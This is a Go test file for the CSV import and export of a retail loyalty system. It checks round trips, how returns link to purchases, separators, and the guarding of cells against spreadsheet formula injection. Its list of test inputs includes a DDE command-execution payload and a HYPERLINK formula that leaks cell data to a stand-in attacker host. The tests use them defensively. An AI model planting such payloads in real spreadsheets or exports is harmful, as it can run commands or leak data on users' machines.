package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"sello/internal/sheet"
)

// TestExportImportsAgain exports an organization and imports the files into another store.
func TestExportImportsAgain(t *testing.T) {
	skipRace(t)
	t.Parallel()
	from, to := newRetailShop(t), newRetailShop(t)
	from.importFile(t, importCustomers, "testdata/retail/customers.csv")
	from.importFile(t, importSales, "testdata/retail/sales.csv")
	for _, kind := range []string{importCustomers, importSales} {
		name := filepath.Join(t.TempDir(), kind+".csv")
		if err := os.WriteFile(name, from.exportedCSV(t, kind), 0o600); err != nil {
			t.Fatal(err)
		}
		if report, rejected := to.importFile(t, kind, name); report.Wrong != 0 || report.Known != 0 {
			t.Errorf("%s: %+v\n%s", kind, report, rejected)
		}
		if d := cmp.Diff(string(from.exportedCSV(t, kind)), string(to.exportedCSV(t, kind))); d != "" {
			t.Errorf("%s differ:\n%s", kind, d)
		}
		if report, _ := from.importFile(t, kind, name); report.Added != 0 || report.Wrong != 0 {
			t.Errorf("%s into where they came from: %+v", kind, report)
		}
	}
	lines := bytes.Count(from.exportedCSV(t, exportMovements), []byte("\n"))
	n, err := read(context.Background(), from.engine, from.org, 0, func(t *txn) (*counters, error) { return t.count() })
	if err != nil || lines != int(n.Movements)+1 {
		t.Errorf("%d lines for %d movements (%v)", lines, n.Movements, err)
	}
}

// links describes the first sales: what each earned or took back, and to which purchase
// a return belongs.
func (s *shop) links(sales uint64) string {
	s.Helper()
	return ask(s, func(t *txn) (string, error) {
		told := ""
		for seq := range sales {
			x, err := t.sales.at(seq + 1)
			if err != nil {
				return "", err
			}
			told += fmt.Sprintln(x.Type, x.Total, x.Earned, x.Reversed, x.Unearned, x.Returned, x.Lines)
			if x.Previous != (id{}) {
				p, err := t.sales.get(x.Previous)
				if err != nil {
					return "", err
				}
				told += fmt.Sprintln(" of", p.Seq)
			}
		}
		return told, nil
	})
}

// TestExportLinksReturns checks that after export and import returns belong to the
// same purchases, however they were linked.
func TestExportLinksReturns(t *testing.T) {
	t.Parallel()
	with := setup{at: "2026-03-02T10:00:00Z", program: `"rules":[` + onePer1 + `]`}
	from, to := newShop(t, with), newShop(t, with)
	ana := from.customer("ana")
	sell := func(in newSale) *sale {
		t.Helper()
		from.pass(time.Minute)
		in.Customer = ana
		sold, err := from.sell(in)
		from.ok(err)
		return sold
	}
	items := []item{{"X", dec("10"), dec("2")}, {"Y", dec("30"), dec("1")}}
	nameless := sell(newSale{Total: dec("50"), Items: items})
	named := sell(newSale{Total: dec("50"), Items: items, ExternalID: "A"})
	twin := sell(newSale{Total: dec("40"), ExternalID: "B"})
	sell(newSale{Total: dec("40"), ExternalID: "B"})
	for _, purchase := range []*sale{nameless, named, twin} {
		one, two := []item{{"X", dec("10"), dec("1")}}, []item{{"Y", dec("30"), dec("1")}}
		if len(purchase.Items) == 0 {
			one, two = nil, nil
		}
		sell(newSale{Type: typeReturn, Total: dec("10"), Items: one, Original: &purchase.ID})
		sell(newSale{Type: typeReturn, Total: dec("30"), Items: two, Original: &purchase.ID, ExternalID: "R-1"})
	}
	sell(newSale{Type: typeReturn, Total: dec("1")})
	sell(newSale{Type: typeReturn, Total: dec("5"), ExternalID: "B"})

	to.clock = from.clock
	to.customer("ana")
	name := filepath.Join(t.TempDir(), "sales.csv")
	from.ok(os.WriteFile(name, from.exportedCSV(t, importSales), 0o600))
	if report, rejected := to.importFile(t, importSales, name); report.Added != 12 || report.Known+report.Wrong != 0 {
		t.Errorf("%+v\n%s", report, rejected)
	}
	if d := cmp.Diff(from.links(12), to.links(12)); d != "" {
		t.Errorf("sales differ:\n%s", d)
	}
	for _, s := range []*shop{from, to} {
		if report, rejected := s.importFile(t, importSales, name); report.Known != 12 || report.Added+report.Wrong != 0 {
			t.Errorf("again: %+v\n%s", report, rejected)
		}
	}
}

// hostileTexts are names that a spreadsheet would run as formulas, and some that only
// look like formulas.
var hostileTexts = []string{
	"=1+1", "+SUM(A1:A9)", "-2+3", "@SUM(1)", "=cmd|' /C calc'!A0", `=HYPERLINK("http://evil.example?x="&A1,"ver")`, "＝1+1", "－1+1", "＋1", "＠x", "+", "-", "=",
	"'=1", "''-x", "'", "''", "'s-Hertogenbosch", "' =1", "-5", "+5", "-5.25", "'-5", "- 5", "+52 55", "-1e9", "a=1", "a;=1", "=1,\"2\"\n=3", "Ana",
}

// TestExportFormulas checks that a spreadsheet finds nothing to run in an export, and
// that an export that was imported is exported with the same bytes. With -raw the texts
// are not changed.
func TestExportFormulas(t *testing.T) {
	t.Parallel()
	from, to, raw := newTill(t), newTill(t), newTill(t)
	for _, s := range []*till{from, to, raw} {
		s.ok("apply " + s.file("org.json", string(setup{}.document())))
	}
	var customers, sales bytes.Buffer
	c, s := csv.NewWriter(&customers), csv.NewWriter(&sales)
	c.Write(exportColumns[importCustomers])
	s.Write(exportColumns[importSales])
	for i, text := range hostileTexts {
		address := fmt.Sprintf("c%d@example.com", i)
		row := []string{text, text, address, fmt.Sprintf("+5255123456%02d", i)}
		c.Write(append(row, make([]string, len(exportColumns[importCustomers])-len(row))...))
		s.Write([]string{fmt.Sprintf("%s%d", strings.TrimRight(text, "'")+"x", i), "2026-01-05T10:00:00Z", address, "", typePurchase, "10", text, "1", "10", text})
	}
	c.Flush()
	s.Flush()
	from.ok("import customers -raw " + from.file("c.csv", customers.String()))
	from.ok("import sales -raw " + from.file("s.csv", sales.String()))
	for _, kind := range []string{importCustomers, importSales} {
		exported, plain := from.ok("export "+kind), from.ok("export "+kind+" -raw")
		rows, err := csv.NewReader(strings.NewReader(exported)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		column := slices.Index(exportColumns[kind], map[string]string{importCustomers: "lastName", importSales: "comment"}[kind])
		rawRows, err := csv.NewReader(strings.NewReader(plain)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for i, text := range hostileTexts {
			if got := rawRows[i+1][column]; got != text {
				t.Errorf("%s: raw, %q is %q", kind, text, got)
			}
		}
		for _, cell := range slices.Concat(rows...) {
			runs := strings.ContainsAny(cell[:min(len(cell), 1)], "=+-@\t\r") || strings.IndexAny(cell, "＝＋－＠") == 0
			if _, err := strconv.ParseFloat(cell, 64); runs && !keptText.MatchString(cell) && (err != nil || strings.ContainsAny(cell, "eE")) {
				t.Errorf("%s: a spreadsheet would run %q", kind, cell)
			}
		}
		to.ok("import " + kind + " " + to.file(kind+".csv", exported))
		raw.ok("import " + kind + " -raw " + raw.file(kind+".csv", plain))
		for _, other := range []*till{to, raw} {
			if d := cmp.Diff(exported, other.ok("export "+kind)); d != "" {
				t.Errorf("%s, imported again:\n%s", kind, d)
			}
		}
	}
}

// TestRejectedFormulas checks that a file of rejected lines has no formulas either.
func TestRejectedFormulas(t *testing.T) {
	t.Parallel()
	s := newTill(t)
	s.ok("apply " + s.file("org.json", string(setup{}.document())))
	for _, cell := range []string{"=1+1", "'=1+1"} {
		file := s.file("c.csv", "firstName,email,phoneNumber\n"+cell+",no,\n=a\"b\n")
		s.run("import customers " + file)
		want := "line,reason,firstName,email,phoneNumber\n2,\"email: \"\"no\"\": no es un email válido\",'=1+1,no,\n3,no es CSV válido: hay comillas mal puestas,\"'=a\"\"b\"\n"
		if got := string(readFile(t, file+".errors.csv")); got != want {
			t.Errorf("%s: %s", cell, got)
		}
	}
}

// keptText matches what an export makes of digits that a spreadsheet would change: a text.
var keptText = regexp.MustCompile(`^="[+0-9]+"$`)

// TestGuard checks that a guarded text is no formula, or one that is a text, and that unguarding
// gives the original text, for random texts.
func TestGuard(t *testing.T) {
	t.Parallel()
	histories(t, 2000, func(t *testing.T, rnd *rand.Rand) {
		var text []rune
		for range rnd.IntN(6) {
			text = append(text, pick(rnd, []rune("''= +-@\t\r\n＝015.ae;/\u00a0")...))
		}
		row := []string{string(text)}
		sheet.Guard(row)
		if guarded := row[0]; strings.IndexAny(guarded, "=@\t\r\n＝") == 0 && !keptText.MatchString(guarded) {
			t.Errorf("%q is guarded as %q", string(text), guarded)
		}
		sheet.Unguard(row)
		if row[0] != string(text) {
			t.Errorf("%q comes back as %q", string(text), row[0])
		}
	})
}

func (s *shop) exportedCSV(t *testing.T, kind string) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := (csvForm{}).write(context.Background(), s.admin().direct, exportRequest{Org: "cafe-luna", Kind: kind}, &out); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

var (
	anyID   = regexp.MustCompile(`,[0-9a-f]{8}-[0-9a-f-]{27},`)
	anyCode = regexp.MustCompile(`,M(-[0-9A-Z]{4}){2},`)
)

// maskedIDs is an export without what is random in it.
func maskedIDs(text string) string {
	return anyCode.ReplaceAllString(anyID.ReplaceAllString(text, ",ID,"), ",CODE,")
}

// TestFormulaInAName: a name that a spreadsheet would run comes back from either kind of
// export as it was, and none begins a cell of an export that is for a spreadsheet.
func TestFormulaInAName(t *testing.T) {
	t.Parallel()
	skipShort(t)
	names := []string{"=1+1", "+52", "+Ana", "-Luis", "@eva", "\t=1+1", "'=1", "=HYPERLINK(\"http://x\",\"y\")", "＝1"}
	var text bytes.Buffer
	out := csv.NewWriter(&text)
	out.Write([]string{"nombre", "apellido", "correo", "cumpleaños", "externalId"})
	for i, name := range names {
		out.Write([]string{name, name, fmt.Sprintf("c%d@example.com", i), "31/12/1990", "@" + name})
	}
	out.Flush()
	from := newOpenTill(t)
	from.ok("import customers -raw " + from.file("names.csv", text.String()))
	for _, flags := range []string{"", " -raw", " -full", " -full -raw"} {
		exported := from.ok("export customers" + flags)
		text, marked := strings.CutPrefix(exported, sheet.MarkUTF8)
		if marked == strings.Contains(flags, "-raw") {
			t.Errorf("%s: a byte order mark: %t", flags, marked)
		}
		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil || len(rows) != len(names)+1 {
			t.Fatalf("%s: %v\n%s", flags, err, exported)
		}
		for _, cell := range slices.Concat(rows...) {
			if raw := strings.Contains(flags, "-raw"); !raw && sheet.IsFormula(cell) && !strings.HasPrefix(cell, "'") && !keptText.MatchString(cell) {
				t.Errorf("%s: a spreadsheet would run %q", flags, cell)
			}
		}
		if name := rows[1][0]; (name == "=1+1") != strings.Contains(flags, "-raw") {
			t.Errorf("%s: %q", flags, name)
		}
		to := newOpenTill(t)
		again := strings.Replace(flags, "-full", "-ignore id,memberCode,tier,balance,pending,expiring,status", 1)
		to.ok("import customers" + again + " " + to.file("exported.csv", exported))
		if d := cmp.Diff(from.ok("export customers -raw"), to.ok("export customers -raw")); d != "" {
			t.Errorf("%s, imported again (-from +to):\n%s", flags, d)
		}
		if out := from.ok("import customers" + again + " " + from.file("exported.csv", exported)); !strings.Contains(out, fmt.Sprintf(" 0 nuevos, %d que ya estaban, 0 con errores", len(names))) {
			t.Errorf("%s, imported where it came from: %s", flags, out)
		}
	}
}

// TestExportFull shows a full export, and that its balance does not come back as an
// opening balance by itself.
func TestExportFull(t *testing.T) {
	t.Parallel()
	s := newOpenTill(t)
	s.ok("import customers -no-welcome " + s.file("c.csv", "correo;puntos;vencen;alta;externalId\nana@example.com;12,5;31/12/2090;15/03/2019;C-1\n"))
	exported := s.ok("export customers -full")
	want := sheet.MarkUTF8 + "firstName,lastName,email,phoneNumber,externalId,birthDate,marketing,marketingAt,id,memberCode,tier,balance,pending,expiring,enrolled,status\n,,ana@example.com,,C-1,,,,ID,CODE,,12.5,0,2090-12-31: 12.5,2019-03-15T06:00:00.000Z,Active\n"
	if got := maskedIDs(exported); got != want {
		t.Errorf("got %swant %s", got, want)
	}
	code, _, told := s.run("import customers " + s.file("full.csv", exported))
	if code != 1 || !strings.Contains(told, `columnas desconocidas: "id", "memberCode", "tier", "balance", "pending", "expiring", "status"; con -ignore id,memberCode,tier,balance,pending,expiring,status se dejan fuera`) {
		t.Errorf("%d %s", code, told)
	}
	s.ok("import customers -ignore id,memberCode,tier,balance,pending,expiring,status " + s.file("full.csv", exported))
	to := newOpenTill(t)
	to.ok("import customers -no-welcome -map balance=puntos -ignore id,memberCode,tier,pending,expiring,status " + to.file("full.csv", exported))
	if got := to.ok("export customers -full"); !strings.Contains(got, ",12.5,0,,2019-03-15T06:00:00.000Z,Active\n") {
		t.Errorf("moved to another file: %s", got)
	}
}

// TestExportStatus: a full export tells inactive customers; merged and erased ones are
// in no export.
func TestExportStatus(t *testing.T) {
	t.Parallel()
	s := newShop(t, setup{})
	ana, luz := s.customer("ana"), s.customer("luz")
	s.customer("eva")
	must(s, func(t *txn) (*customer, error) {
		return t.customers.patch(luz, customerPatch{Status: new(statusInactive)}, nil)
	})
	s.merged(s.customer("two"), ana)
	page := ask(s, func(t *txn) (*exportPage, error) {
		return exportRows(t, exportRequest{Kind: importCustomers, Full: true})
	})
	status := slices.Index(columnsOf(exportRequest{Kind: importCustomers, Full: true}), "status")
	var got []string
	for _, row := range page.Rows {
		got = append(got, row[status])
	}
	if want := []string{statusInactive, statusActive, statusActive}; !slices.Equal(got, want) {
		t.Errorf("statuses: %v, want %v", got, want)
	}
}

// TestSeparator: an export with another separator has the same cells, and imports as it stands.
func TestSeparator(t *testing.T) {
	t.Parallel()
	s := newOpenTill(t)
	s.ok("import customers " + s.file("c.csv", "nombre,teléfono,externalId\n\"Ana, la de las 5; o 6\",5512345678,0000001\n"))
	want := s.ok("export customers")
	if !strings.Contains(want, `"Ana, la de las 5; o 6"`) || !strings.Contains(want, `"=""+525512345678"""`) || !strings.Contains(want, `"=""0000001"""`) {
		t.Errorf("with commas: %s", want)
	}
	for word, sign := range separatorWords {
		text := s.ok("export customers -separator " + word)
		in := csv.NewReader(strings.NewReader(text))
		in.Comma = sign
		got, err := in.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		same, err := csv.NewReader(strings.NewReader(want)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if d := cmp.Diff(same, got); d != "" {
			t.Errorf("%s (-comma +got):\n%s", word, d)
		}
		if out := s.ok("import customers " + s.file(word+".csv", text)); !strings.Contains(out, "0 nuevos, 1 que ya estaban, 0 con errores") {
			t.Errorf("%s, imported: %s", word, out)
		}
	}
	if code, _, _ := s.run("export customers -separator ;"); code != 2 {
		t.Errorf("a sign that is none: exit %d", code)
	}
}
